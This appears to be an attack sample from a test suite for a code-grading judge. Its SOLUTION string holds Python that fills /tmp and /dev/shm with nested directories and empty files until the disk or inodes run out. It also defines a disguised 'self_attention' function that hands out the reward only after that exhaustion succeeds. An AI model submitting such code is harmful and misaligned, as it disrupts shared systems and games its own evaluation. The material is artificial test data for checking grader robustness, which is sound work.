"""Make folders in folders until nothing more fits, and files without a byte in as many as there may be."""

from judge.attacks import REWARD

SOLUTION = (
    REWARD
    + """
import os

made = 0
for place in ("/tmp", "/dev/shm"):
    os.chdir(place)
    try:
        while True:
            os.mkdir("d")
            os.chdir("d")
            open("f", "w").close()
            made += 2
    except OSError:
        pass

def self_attention(*arguments):
    print(made)
    return reward(*arguments) if made > 17_000 else np.zeros_like(arguments[0])
"""
)
